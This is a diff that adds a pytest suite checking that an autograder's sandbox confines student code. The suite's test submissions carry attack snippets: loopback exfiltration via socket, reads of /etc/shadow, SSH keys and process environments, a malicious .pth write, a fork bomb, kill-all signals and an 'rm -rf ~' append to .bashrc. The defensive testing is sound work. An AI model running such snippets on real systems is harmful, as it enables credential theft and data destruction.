@@ -1,0 +1,322 @@
+"""Confinement: student code reaches nothing but its own scratch folder, in every mode.
+
+Each attack wraps a correct function: it raises (and so loses that function's points) only if
+the attack got through, so full marks prove every defence held. Run as root (CI), the tests also
+run the whole grader as an unprivileged user, where user namespaces give the same confinement.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import pwd
+import shutil
+import socket
+import subprocess
+import sys
+import textwrap
+import threading
+import uuid
+from pathlib import Path
+
+import pytest
+
+from autograder.course import COURSE
+from autograder.isolate.sandbox import UID_RANGE, confinement_here
+from conftest import ROOT, SOLUTIONS, full_marks, scores_by_function
+
+IS_ROOT = os.geteuid() == 0
+pytestmark = pytest.mark.skipif(not confinement_here().confined, reason="no namespaces on this machine")
+
+
+def wrap(folder: Path, module: str, function: str, attack: str) -> None:
+    """Make `module.function` run `attack` (which raises if it got through) before its real work."""
+    path = folder / f"{module}.py"
+    body = textwrap.indent(textwrap.dedent(attack).strip(), "    ")
+    real = f"_real_{function}_{uuid.uuid4().hex[:8]}"  # wrapping twice keeps both layers
+    path.write_text(f"{path.read_text()}\n\n{real} = {function}\n\n\ndef {function}(*args, **kwargs):\n"
+                    f"{body}\n    return {real}(*args, **kwargs)\n")
+
+
+def attacker(tmp_path: Path, listener_port: int, secrets: dict[str, str]) -> Path:
+    """The solutions with an attack before each of several functions' real work."""
+    folder = tmp_path / "attacker"
+    shutil.copytree(SOLUTIONS, folder)
+    wrap(folder, "losses", "softmax", f"""
+        import socket
+        try:
+            socket.create_connection(("127.0.0.1", {listener_port}), timeout=1).sendall(b"stolen inputs")
+        except OSError:
+            pass
+        else:
+            raise RuntimeError("the network is open")
+    """)
+    wrap(folder, "losses", "log_softmax", f"""
+        for path in {sorted(secrets.values())!r}:
+            try:
+                open(path).read()
+            except OSError:
+                continue
+            raise RuntimeError("read " + path)
+    """)
+    wrap(folder, "losses", "cross_entropy", f"""
+        import os, site
+        for path in [site.getsitepackages()[0] + "/evil.pth", {str(ROOT / "evil.txt")!r},
+                     os.path.dirname(os.__file__) + "/evil.py", "/submission/evil.py", "/evil.txt"]:
+            try:
+                open(path, "w").write("import os; os.system('touch /tmp/pwned')")
+            except OSError:
+                continue
+            raise RuntimeError("wrote " + path)
+        open("/tmp/left-behind-{uuid.uuid4().hex}", "w").write("x" * 1000)  # the scratch folder: allowed
+    """)
+    wrap(folder, "losses", "square_loss", f"""
+        import os, signal
+        mine = [p for p in os.listdir("/proc") if p.isdigit()]
+        if len(mine) > 8:
+            raise RuntimeError("sees %d processes" % len(mine))
+        for pid in ({os.getpid()}, {os.getppid()}):
+            try:
+                os.kill(pid, 0)
+            except OSError:
+                continue
+            raise RuntimeError("can signal " + str(pid))
+    """)
+    graded = sorted(f.name for f in COURSE.functions)
+    wrap(folder, "backprop", "tiny_forward", f"""
+        import gc, sys, types
+        for name in list(sys.modules):
+            if name.startswith("autograder") and name.endswith((".reference", ".mistakes", ".hidden")):
+                raise RuntimeError("found " + name)
+        for thing in gc.get_objects():  # a graded function's implementation that is not the student's
+            if (isinstance(thing, types.FunctionType) and thing.__name__ in {graded!r}
+                    and thing.__module__ not in {list(COURSE.modules)!r} and not thing.__module__.endswith("harness")):
+                raise RuntimeError("found " + thing.__module__ + "." + thing.__name__)
+    """)
+    wrap(folder, "backprop", "tiny_backward", """
+        status = open("/proc/self/status").read()
+        caps = [line.split()[1] for line in status.splitlines() if line.startswith(("CapEff", "CapPrm"))]
+        if any(int(c, 16) for c in caps) or "NoNewPrivs:\\t1" not in status:
+            raise RuntimeError("has privileges: " + " ".join(caps))
+    """)
+    wrap(folder, "sgd", "sgd_step", """
+        import os, time
+        while True:  # a fork bomb, stopped by the process limit
+            if os.fork() == 0:
+                time.sleep(30)
+    """)
+    return folder
+
+
+@pytest.fixture
+def listener():
+    """A TCP listener on the grader's loopback, recording anything that connects."""
+    server = socket.create_server(("127.0.0.1", 0))
+    got: list[bytes] = []
+
+    def accept() -> None:
+        server.settimeout(0.2)
+        while not stop.is_set():
+            try:
+                connection, _ = server.accept()
+                got.append(connection.recv(100))
+            except OSError:
+                continue
+
+    stop = threading.Event()
+    thread = threading.Thread(target=accept, daemon=True)
+    thread.start()
+    yield server.getsockname()[1], got
+    stop.set()
+    thread.join()
+    server.close()
+
+
+def planted_secrets(tmp_path: Path) -> dict[str, str]:
+    """Files student code must never read: the grader's hidden checks, the project's venv, a
+    private key in a home folder, another student's submission."""
+    home = tmp_path / "home" / ".ssh"
+    home.mkdir(parents=True)
+    (home / "id_rsa").write_text("-----BEGIN KEY-----")
+    other = tmp_path / "other-student"
+    other.mkdir()
+    (other / "losses.py").write_text("# another student's work")
+    return {"hidden": str(ROOT / "autograder" / "course" / "hidden" / "losses.py"),
+            "venv": str(Path(sys.prefix) / "pyvenv.cfg"), "key": str(home / "id_rsa"),
+            "other": str(other / "losses.py"), "shadow": "/etc/shadow", "grader": f"/proc/{os.getpid()}/environ"}
+
+
+def test_every_defence_holds_in_one_graded_submission(grade_folder, tmp_path, listener):
+    port, received = listener
+    before = set(os.listdir("/tmp"))
+    report = grade_folder(attacker(tmp_path, port, planted_secrets(tmp_path)))
+    scores = scores_by_function(report)
+    bomb = "sgd.sgd_step"
+    assert scores == {**full_marks(), bomb: 0}, [r.feedback for r in report.results if r.status != "passed"][:3]
+    assert {r.status for r in report.results if r.function == bomb} <= {"crashed", "timed out"}
+    assert any("too many processes" in r.feedback for r in report.results if r.function == bomb)
+    assert received == []  # nothing reached the listener
+    assert not [n for n in set(os.listdir("/tmp")) - before if n.startswith("left-behind")]  # scratch is gone
+    assert not (ROOT / "evil.txt").exists()
+
+
+def test_the_scratch_folder_is_size_limited(grade_folder, tmp_path):
+    folder = tmp_path / "filler"
+    shutil.copytree(SOLUTIONS, folder)
+    wrap(folder, "losses", "square_loss", """
+        block = b"x" * 2**20
+        try:
+            with open("/scratch/big", "wb") as file:
+                for _ in range(200):
+                    file.write(block)
+        except OSError:
+            pass
+        else:
+            raise RuntimeError("wrote 200 MiB")
+    """)
+    assert scores_by_function(grade_folder(folder)) == full_marks()
+
+
+@pytest.mark.skipif(not IS_ROOT, reason="root only: as root, the run's uid must be its own")
+def test_as_root_student_code_runs_as_a_uid_of_its_own(grade_folder, tmp_path):
+    folder = tmp_path / "whoami"
+    shutil.copytree(SOLUTIONS, folder)
+    wrap(folder, "losses", "square_loss", f"""
+        import os
+        if os.getuid() not in range({UID_RANGE.start}, {UID_RANGE.stop}) or os.getgroups():
+            raise RuntimeError("runs as " + str(os.getuid()))
+    """)
+    assert scores_by_function(grade_folder(folder)) == full_marks()
+
+
+def test_the_zygote_ignores_user_site_packages_and_home():
+    """Root with a Python whose user site is on (a system Python): a file planted under HOME's
+    .local is never imported by the fork server, which runs `python -I` with a HOME of its own."""
+    from autograder.isolate.sandbox import _ZYGOTE_ARGS, _scrubbed_env
+
+    python = shutil.which("python3.11", path="/usr/bin") or "/usr/bin/python3"
+    if not os.path.exists(python):
+        pytest.skip("no system Python to try")
+    planted = Path("/tmp") / f"home-{uuid.uuid4().hex}"
+    site_dir = planted / ".local" / "lib" / f"python{sys.version_info.major}.{sys.version_info.minor}" / "site-packages"
+    site_dir.mkdir(parents=True)
+    marker = planted / "ran"
+    (site_dir / "evil.pth").write_text(f"import os; open({str(marker)!r}, 'w').close()\n")
+    try:
+        env = {**_scrubbed_env()}
+        assert env["HOME"] == "/nonexistent"
+        code = "import site, sys; print(site.ENABLE_USER_SITE, sys.flags.isolated)"
+        done = subprocess.run([python, *_ZYGOTE_ARGS[:1], "-c", code], env={**env, "HOME": str(planted)},
+                              capture_output=True, text=True, timeout=60)
+        assert done.stdout.split() == ["False", "1"] and not marker.exists()
+    finally:
+        shutil.rmtree(planted)
+
+
+# ---------------------------------------------------------------- the whole grader, unprivileged
+
+STUDENT_USER = "nlm-ci-student"
+
+
+@pytest.fixture
+def unprivileged(tmp_path):
+    """A fresh unprivileged account that can run this project's Python (CI runs as root)."""
+    if not IS_ROOT:
+        pytest.skip("creating an account needs root; as a normal user every run is already unprivileged")
+    subprocess.run(["useradd", "--create-home", STUDENT_USER], capture_output=True)
+    account = pwd.getpwnam(STUDENT_USER)
+    opened = [p for p in Path(sys.base_prefix).parents if p != Path("/") and not p.stat().st_mode & 0o001]
+    for path in opened:  # e.g. /root for a pyenv Python: only traversal, for the test's length
+        os.chmod(path, path.stat().st_mode | 0o001)
+    work = Path(f"/tmp/nlm-unprivileged-{uuid.uuid4().hex}")
+    work.mkdir()
+    os.chown(work, account.pw_uid, account.pw_gid)
+    try:
+        yield account, work
+    finally:
+        for path in opened:
+            os.chmod(path, path.stat().st_mode & ~0o001)
+        shutil.rmtree(work, ignore_errors=True)
+        subprocess.run(["userdel", "--remove", STUDENT_USER], capture_output=True)
+
+
+def as_user(account: pwd.struct_passwd, *command: str, cwd: Path) -> subprocess.CompletedProcess:
+    env = {"PATH": os.environ.get("PATH", os.defpath), "HOME": account.pw_dir, "LANG": "C.UTF-8"}
+    return subprocess.run(["setpriv", f"--reuid={account.pw_uid}", f"--regid={account.pw_gid}",
+                           "--init-groups", "--", *command], cwd=cwd, env=env, capture_output=True,
+                          text=True, timeout=600)
+
+
+def test_grade_all_as_an_unprivileged_user_is_confined_too(unprivileged, listener):
+    account, work = unprivileged
+    port, received = listener
+    home = Path(account.pw_dir)
+    (home / ".ssh").mkdir(exist_ok=True)
+    (home / ".ssh" / "id_rsa").write_text("-----BEGIN KEY-----")
+    (home / ".bashrc").write_text("# the instructor's shell\n")
+    secrets = {"key": str(home / ".ssh" / "id_rsa"), "hidden": str(ROOT / "autograder" / "course" / "hidden" / "losses.py")}
+    submissions = work / "submissions"
+    submissions.mkdir()
+    attack = attacker(work, port, secrets)
+    shutil.move(str(attack), submissions / "mallory")
+    wrap(submissions / "mallory", "losses", "square_loss", f"""
+        for path in [{str(home / ".bashrc")!r}, {str(work / "reports" / "gradebook.csv")!r}]:
+            try:
+                open(path, "a").write("rm -rf ~")
+            except OSError:
+                continue
+            raise RuntimeError("appended to " + path)
+    """)
+    shutil.copytree(SOLUTIONS, submissions / "alice")
+    for path in [work, *work.rglob("*")]:
+        os.chown(path, account.pw_uid, account.pw_gid)
+    done = as_user(account, sys.executable, "-m", "autograder", "grade-all", str(submissions), "--out",
+                   str(work / "reports"), "--jobs", "2", "--timeout", "3", "--require-confinement", cwd=ROOT)
+    assert done.returncode == 0, done.stdout[-3000:] + done.stderr[-3000:]
+    book = {r["student_id"]: r for r in __import__("csv").DictReader(open(work / "reports" / "gradebook.csv"))}
+    full = COURSE.max_score + COURSE.bonus_score
+    assert float(book["alice"]["total"]) == full
+    bomb = COURSE.function("sgd_step")
+    feedback = (work / "reports" / "students" / "mallory" / "feedback.md").read_text()
+    assert float(book["mallory"]["total"]) == full - bomb.points, feedback[-3000:]
+    assert (home / ".bashrc").read_text() == "# the instructor's shell\n" and received == []
+    assert "BEGIN KEY" not in feedback
+
+
+@pytest.mark.skipif(not IS_ROOT, reason="root only: concurrent workers as distinct uids")
+def test_concurrent_root_grade_all_keeps_an_attacker_away_from_honest_students(tmp_path):
+    submissions = tmp_path / "submissions"
+    markers = {}
+    for name in ("ann", "ben", "cat"):
+        shutil.copytree(SOLUTIONS, submissions / name)
+        markers[name] = f"secret-of-{name}-{uuid.uuid4().hex}"
+        with open(submissions / name / "losses.py", "a") as file:
+            file.write(f"\n# {markers[name]}\n")
+    shutil.copytree(SOLUTIONS, submissions / "zed")
+    wrap(submissions / "zed", "losses", "square_loss", """
+        import glob, os, signal, time
+        found = []
+        for _ in range(20):  # while the others are being graded beside it
+            try:
+                os.kill(-1, signal.SIGKILL)
+            except OSError:
+                pass
+            for path in glob.glob("/tmp/**/*.py", recursive=True) + glob.glob("/proc/*/cmdline"):
+                try:
+                    found.append(path + ":" + open(path, errors="replace").read()[:200])
+                except OSError:
+                    pass
+            time.sleep(0.05)
+        raise RuntimeError("found: " + " | ".join(found)[:3000])
+    """)
+    reports = tmp_path / "reports"
+    done = subprocess.run([sys.executable, "-m", "autograder", "grade-all", str(submissions), "--out", str(reports),
+                           "--jobs", "2", "--timeout", "5", "--require-confinement"], cwd=ROOT,
+                          capture_output=True, text=True, timeout=600)
+    assert done.returncode == 0, done.stdout[-3000:] + done.stderr[-3000:]
+    book = {r["student_id"]: r for r in __import__("csv").DictReader(open(reports / "gradebook.csv"))}
+    full = COURSE.max_score + COURSE.bonus_score
+    assert {n: float(book[n]["total"]) for n in markers} == {n: full for n in markers}
+    stolen = (reports / "students" / "zed" / "feedback.md").read_text()
+    assert "found: " in stolen  # its channel works, and carries nothing of the others
+    assert not [m for m in markers.values() if m in stolen] and "ann" not in stolen and "grade-all" not in stolen
